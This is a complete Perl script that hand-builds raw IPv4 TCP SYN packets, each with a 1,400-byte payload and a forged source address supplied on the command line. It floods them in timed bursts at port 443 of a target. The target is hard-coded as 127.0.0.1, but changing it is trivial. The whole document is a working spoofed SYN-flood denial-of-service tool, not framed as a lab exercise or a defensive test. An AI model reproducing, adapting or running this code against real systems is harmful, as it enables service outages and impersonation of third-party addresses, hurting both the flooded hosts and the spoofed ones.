# Sends packets that begin a connection to port 443, each with 1,400 bytes, in another address's name, for so many seconds. Needs root.
use strict;
use warnings;
use Socket qw(inet_aton pack_sockaddr_in AF_INET SOCK_RAW);
use Time::HiRes qw(time);

my ($from, $seconds) = @ARGV;
my ($source, $target) = (inet_aton($from), inet_aton('127.0.0.1'));

# RFC 1071.
sub checksum {
    my ($bytes) = @_;
    my $sum = 0;
    $sum += $_ for unpack 'n*', length($bytes) % 2 ? "$bytes\0" : $bytes;
    $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
    return ~$sum & 0xffff;
}

# RFC 9293, 3.1; 2: SYN.
my $bytes = 'x' x 1_400;
my $tcp = sub { pack 'n n N N C C n n n', 2000, 443, 12345, 0, 5 << 4, 2, 65535, shift, 0 };
my $pseudo = $source . $target . pack 'C C n', 0, 6, 20 + length $bytes;
my $segment = $tcp->(checksum($pseudo . $tcp->(0) . $bytes)) . $bytes;
my $ip = pack('C C n n n C C n', 0x45, 0, 20 + length $segment, 1, 0, 64, 6, 0) . $source . $target;

socket(my $raw, AF_INET, SOCK_RAW, 255) or die "socket: $!";    # IPPROTO_RAW
my $end = time + $seconds;
while (time < $end) {
    send $raw, $ip . $segment, 0, pack_sockaddr_in(0, $target) for 1 .. 20;
    select undef, undef, undef, 0.005;
}
